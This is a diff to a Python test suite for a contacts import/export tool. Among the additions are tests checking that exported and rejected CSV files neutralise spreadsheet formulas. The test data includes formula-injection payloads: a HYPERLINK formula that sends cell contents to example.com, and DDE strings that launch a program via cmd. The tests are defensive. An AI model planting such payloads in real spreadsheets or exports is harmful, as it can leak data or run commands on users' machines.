@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import csv
+import os
+import stat
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -37,11 +40,70 @@ def test_lines_become_contacts_whom_nobody_wants_yet(database: Database, run: Ru
 def test_a_second_import_changes_nothing(database: Database, run: Run, file: Path) -> None:
     insert(database, " Ann@Example.com", name="As it was")
     file.write_text("email,name\nann@example.com,Another\nbob@example.com,Bob\n")
-    assert "1 added, and selected; 1 were there already" in run("contacts", "import", str(file), "--select").out
+    assert "1 added, 1 selected; 1 were there already" in run("contacts", "import", str(file), "--select").out
     before = sql(database, "SELECT c.*, xmin::text FROM contacts c ORDER BY id")
-    assert "0 added, and selected; 2 were there already" in run("contacts", "import", str(file), "--select").out
+    assert "0 added, 0 selected; 2 were there already" in run("contacts", "import", str(file), "--select").out
     assert sql(database, "SELECT c.*, xmin::text FROM contacts c ORDER BY id") == before
     assert pairs(database) == {"Selected/Queued": 2}, "the first was selected when it was inserted"
+
+
+@pytest.fixture
+def refuse_to_select(database: Database) -> Callable[[str, str], None]:
+    """Let the application's own trigger refuse to select whom the condition names, with this error."""
+
+    def refuse(condition: str, sqlstate: str) -> None:
+        sql(
+            database,
+            "CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS "
+            f"$$ BEGIN RAISE 'not today' USING ERRCODE = '{sqlstate}'; END $$",
+        )
+        sql(
+            database,
+            f"CREATE TRIGGER refuse BEFORE UPDATE ON contacts FOR EACH ROW WHEN ({condition}) "
+            "EXECUTE FUNCTION refuse()",
+        )
+
+    return refuse
+
+
+def test_what_is_cut_off_between_adding_and_selecting_is_not_added_and_the_next_import_does_both(
+    database: Database, run: Run, file: Path, refuse_to_select: Callable[[str, str], None]
+) -> None:
+    file.write_text("email\nann@example.com\nbob@example.com\n")
+    refuse_to_select("true", "57014")  # as a cancelled statement ends
+    assert run("contacts", "import", str(file), "--select").code != 0
+    assert run("contacts", "add", "cy@example.com", "--select").code != 0
+    assert people(database) == []
+    sql(database, "DROP TRIGGER refuse ON contacts")
+    assert "2 added, 2 selected; 0 were there already" in run("contacts", "import", str(file), "--select").out
+    assert run("contacts", "add", "cy@example.com", "--select").code == 0
+    assert pairs(database) == {"Selected/Queued": 3}
+
+
+def test_a_contact_that_may_not_be_selected_is_rejected_and_takes_no_other_with_it(
+    database: Database, run: Run, file: Path, refuse_to_select: Callable[[str, str], None]
+) -> None:
+    file.write_text("email\n" + "".join(f"{n}@example.com\n" for n in range(9)))
+    refuse_to_select("NEW.email LIKE '3@%'", "P0001")
+    said = run("contacts", "import", str(file), "--select")
+    assert "8 added, 8 selected; 0 were there already; 1 rejected. line 5: " in said.out
+    assert pairs(database) == {"Selected/Queued": 8}
+
+
+@pytest.mark.parametrize("address", ["ann@example.com\r\n", "\u00a0\tAnn@Example.com ", "v" * 330 + "@example.com"])
+def test_an_address_is_the_same_to_the_import_and_to_questions_whatever_blanks_are_around_it(
+    database: Database, run: Run, file: Path, address: str
+) -> None:
+    insert(database, address, "New", None)
+    file.write_text(f"email\n{address.strip()}\n", encoding="utf-8")
+    assert "0 added; 1 were there already" in run("contacts", "import", str(file)).out
+    assert "nobody wants it in Brevo" in run("contacts", "why", f" {address.strip().upper()}").out
+
+
+def test_two_addresses_are_not_the_same_for_a_letter_at_an_end(database: Database, run: Run, file: Path) -> None:
+    insert(database, "vera@example.tv", "New", None)
+    file.write_text("email\nera@example.t\n")
+    assert "1 added; 0 were there already" in run("contacts", "import", str(file)).out
 
 
 def test_what_cannot_be_a_contact_goes_to_a_file_of_its_own_with_its_reason(
@@ -145,3 +207,68 @@ def test_all_contacts_are_exported_with_what_became_of_them_and_come_back_as_the
     assert rows["bob@example.com"]["sync_status"] == "New"
     assert "0 added; 2 were there already" in run("contacts", "import", str(file)).out
     assert run("contacts", "export", "--status", "New").out.count("@example.com") == 1
+
+
+FORMULAS = ['=HYPERLINK("http://example.com/?"&B2,"me")', "@SUM(1)", "-1+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0"]
+
+
+def cells(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as file:
+        return list(csv.reader(file))
+
+
+def test_no_cell_of_a_file_is_a_formula_and_an_import_takes_it_for_what_it_was(
+    database: Database, run: Run, file: Path
+) -> None:
+    insert(database, "=cmd|'/C@example.com", name="'=twice", phone_number="+49 (30) 1-2/3", brevo_processing_error="=1")
+    for number, formula in enumerate(FORMULAS):
+        insert(database, f"{number}@example.com", name=formula, phone_number=formula)
+    before = people(database)
+    assert run("contacts", "export", str(file)).code == 0
+    written = [cell for row in cells(file) for cell in row]
+    assert [cell for cell in written if cell.startswith(("=", "+", "-", "@"))] == ["+49 (30) 1-2/3"]
+    assert {"'" + formula for formula in FORMULAS} <= set(written)
+    assert run("contacts", "export").out.count("'=HYPERLINK") == 2
+    sql(database, "DELETE FROM contacts")
+    assert "5 added" in run("contacts", "import", str(file)).out
+    assert people(database) == before
+
+
+def test_no_rejected_line_is_a_formula_and_once_mended_it_is_imported_as_it_was(
+    database: Database, run: Run, file: Path
+) -> None:
+    file.write_text("email,name,=x\n=nobody,=1+1,@y\nann,'=1+2,+49 30 1\n")
+    assert "2 rejected" in run("contacts", "import", str(file)).out
+    rejected = file.with_suffix(".rejected.csv")
+    assert cells(rejected) == [
+        ["email", "name", "'=x", "line", "reason"],
+        ["'=nobody", "'=1+1", "'@y", "2", "''=nobody' is no e-mail address"],
+        ["ann", "'=1+2", "+49 30 1", "3", "'ann' is no e-mail address"],
+    ]
+    mended = rejected.read_text().replace("'=nobody", "'=nobody@example.com", 1).replace("ann,", "ann@example.com,", 1)
+    rejected.write_text(mended)
+    assert "2 added" in run("contacts", "import", str(rejected), "--map", "=x=context").out
+    rows = sql(database, "SELECT email, name, context FROM contacts ORDER BY email")
+    assert [tuple(row) for row in rows] == [
+        ("=nobody@example.com", "=1+1", "@y"),
+        ("ann@example.com", "=1+2", "+49 30 1"),
+    ]
+
+
+def test_a_file_of_personal_data_is_its_owners_alone_and_one_that_was_there_keeps_its_mode(
+    database: Database, run: Run, file: Path
+) -> None:
+    before = os.umask(0o022)
+    try:
+        insert(database, "ann@example.com")
+        file.write_text("email\nnobody\n")
+        rejected, new, old = (file.with_name(name) for name in ("people.rejected.csv", "new.csv", "old.csv"))
+        old.write_text("x" * 10_000)
+        old.chmod(0o640)
+        run("contacts", "import", str(file))
+        for path in (new, old):
+            assert run("contacts", "export", str(path)).code == 0
+        assert [stat.S_IMODE(path.stat().st_mode) for path in (rejected, new, old)] == [0o600, 0o600, 0o640]
+        assert old.read_bytes() == new.read_bytes()
+    finally:
+        os.umask(before)
